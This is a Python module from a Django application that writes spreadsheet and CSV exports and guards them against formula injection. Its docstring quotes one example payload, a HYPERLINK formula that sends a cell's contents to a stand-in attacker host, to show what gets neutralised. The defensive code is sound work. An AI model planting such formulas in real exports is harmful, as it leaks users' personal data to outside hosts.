"""The one writer of spreadsheets (XLSX) and CSV files that Kapabel hands out.

Names, unit names and job titles come from HR data and from users, so a value such as
`=HYPERLINK("http://evil.example/?leak="&A2,"Klik her")` must never reach a spreadsheet as a live
formula. Every text value that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is
prefixed with a single quote (OWASP, "CSV injection"), and XLSX text cells are written explicitly as
text. Real numbers and dates stay numbers and dates, so sums and sorting keep working.

Every export goes through here (a code-quality test checks that nothing else writes with openpyxl or
`csv.writer`): build `Sheet`s and call `response()`, or `xlsx_bytes()` / `csv_bytes()` for files.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header
from django.utils.translation import get_language
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font

# A column's kind decides how its numbers look: "text" (anything), "int", "pct" (a share 0–1),
# "dec" (one decimal), "dec2" (two decimals), "date".
Kind = Literal["text", "int", "pct", "dec", "dec2", "date"]
Format = Literal["xlsx", "csv"]

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_NUMBER_FORMATS: dict[str, str] = {
    "int": "0",
    "pct": "0%",
    "dec": "0.0",
    "dec2": "0.00",
    "date": "yyyy-mm-dd",
}

# Characters a spreadsheet reads as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Excel refuses these in a sheet title, and titles longer than 31 characters.
_TITLE_FORBIDDEN = re.compile(r"[\\/?*\[\]:]")
TITLE_MAX = 31


@dataclass(frozen=True)
class Column:
    header: str
    kind: Kind = "text"


@dataclass(frozen=True)
class Sheet:
    """One table: a title (the XLSX sheet name), its columns and rows of plain values (None for
    an empty cell)."""

    title: str
    columns: Sequence[Column]
    rows: Sequence[Sequence[Any]] = field(default_factory=list)


def neutralise(value: str) -> str:
    """`value`, made inert for a spreadsheet: a leading formula character gets a `'` in front."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def _is_number(value: Any) -> bool:
    return isinstance(value, int | float | decimal.Decimal) and not isinstance(value, bool)


# --- sheet titles ------------------------------------------------------------------------------


def safe_sheet_titles(titles: Iterable[str]) -> list[str]:
    """Titles Excel accepts: forbidden characters replaced, at most 31 characters, not empty, no
    apostrophe at either end, and unique (case-insensitively, as Excel compares them)."""
    result: list[str] = []
    seen: set[str] = set()
    for index, title in enumerate(titles, start=1):
        base = _TITLE_FORBIDDEN.sub("_", ILLEGAL_CHARACTERS_RE.sub("", str(title)))
        base = base.strip().strip("'").strip()[:TITLE_MAX].strip() or f"Sheet{index}"
        candidate, number = base, 1
        while candidate.casefold() in seen:
            number += 1
            suffix = f" ({number})"
            candidate = base[: TITLE_MAX - len(suffix)].rstrip() + suffix
        seen.add(candidate.casefold())
        result.append(candidate)
    return result


# --- XLSX --------------------------------------------------------------------------------------


def _xlsx_value(value: Any) -> Any:
    if value is None or _is_number(value) or isinstance(value, bool):
        return value
    if isinstance(value, datetime.datetime):
        # Excel has no time zones: write the local wall-clock time.
        return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
    if isinstance(value, datetime.date | datetime.time):
        return value
    # openpyxl refuses control characters that XML cannot carry; drop them rather than fail.
    return neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


def _write_cell(sheet: Any, row: int, column: int, value: Any) -> Any:
    cell = sheet.cell(row=row, column=column, value=_xlsx_value(value))
    if isinstance(cell.value, str):
        cell.data_type = "s"  # text, never a formula, whatever it looks like
    return cell


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook with one worksheet per sheet: bold, frozen header row; number formats by kind."""
    workbook = Workbook()
    workbook.remove(workbook.active)
    for title, data in zip(safe_sheet_titles(s.title for s in sheets), sheets, strict=True):
        sheet = workbook.create_sheet(title=title)
        for column_index, column in enumerate(data.columns, start=1):
            _write_cell(sheet, 1, column_index, column.header).font = Font(bold=True)
            sheet.column_dimensions[sheet.cell(row=1, column=column_index).column_letter].width = (
                30 if column.kind == "text" else 14
            )
        for row_index, row in enumerate(data.rows, start=2):
            for column_index, (value, column) in enumerate(zip(row, data.columns, strict=True), start=1):
                cell = _write_cell(sheet, row_index, column_index, value)
                if column.kind in XLSX_NUMBER_FORMATS and not isinstance(cell.value, str):
                    cell.number_format = XLSX_NUMBER_FORMATS[column.kind]
        sheet.freeze_panes = "A2"
    if not sheets:
        workbook.create_sheet(title="Sheet1")
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


# --- CSV ---------------------------------------------------------------------------------------


def _csv_value(value: Any, kind: Kind, decimal_comma: bool, guard: bool) -> Any:
    if value is None:
        return ""
    if _is_number(value):
        if isinstance(value, int):
            text = str(value)
        elif kind == "pct":
            text = f"{value:.4f}"
        elif kind in ("dec", "dec2"):
            text = f"{value:.2f}"
        else:
            text = str(value)
        return text.replace(".", ",") if decimal_comma else text
    if isinstance(value, datetime.datetime):
        return (timezone.localtime(value) if timezone.is_aware(value) else value).isoformat(sep=" ")
    if isinstance(value, datetime.date):
        return value.isoformat()
    text = str(value)
    return neutralise(text) if guard else text


def csv_text(
    rows: Iterable[Sequence[Any]],
    *,
    kinds: Sequence[Kind] | None = None,
    delimiter: str = ",",
    lineterminator: str = "\r\n",
    decimal_comma: bool = False,
    neutralise_formulas: bool = True,
) -> str:
    """Rows as CSV text. `neutralise_formulas=False` is for files a program, not a spreadsheet,
    reads back and that must carry text exactly (the Moodle framework format)."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=delimiter, lineterminator=lineterminator)
    for row in rows:
        row_kinds: Sequence[Kind] = kinds if kinds is not None else ["text"] * len(row)
        writer.writerow(
            [
                _csv_value(value, kind, decimal_comma, neutralise_formulas)
                for value, kind in zip(row, row_kinds, strict=True)
            ]
        )
    return out.getvalue()


def _danish() -> bool:
    return (get_language() or "da").startswith("da")


def csv_bytes(sheet: Sheet, *, delimiter: str | None = None) -> bytes:
    """One sheet as a spreadsheet-ready CSV file: UTF-8 with a byte-order mark (so Excel reads the
    æ, ø and å), header row first. In Danish the separator is `;` and decimals have a comma."""
    danish = _danish()
    text = csv_text(
        [[column.header for column in sheet.columns], *sheet.rows],
        kinds=[column.kind for column in sheet.columns],
        delimiter=delimiter or (";" if danish else ","),
        decimal_comma=danish,
    )
    return ("\ufeff" + text).encode("utf-8")


# --- HTTP --------------------------------------------------------------------------------------


def file_response(content: bytes, *, content_type: str, filename: str) -> HttpResponse:
    """A download that no browser or proxy keeps a copy of (exports carry personal data)."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response["Cache-Control"] = "no-store"
    return response


def response(sheets: Sequence[Sheet], *, filename: str, fmt: Format) -> HttpResponse:
    """`sheets` as `<filename>.xlsx` or (one sheet only) `<filename>.csv`."""
    if fmt == "xlsx":
        return file_response(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE, filename=f"{filename}.xlsx")
    if fmt == "csv":
        if len(sheets) != 1:
            raise ValueError("A CSV file holds exactly one sheet.")
        return file_response(csv_bytes(sheets[0]), content_type=CSV_CONTENT_TYPE, filename=f"{filename}.csv")
    raise ValueError(f"Unknown export format {fmt!r}.")
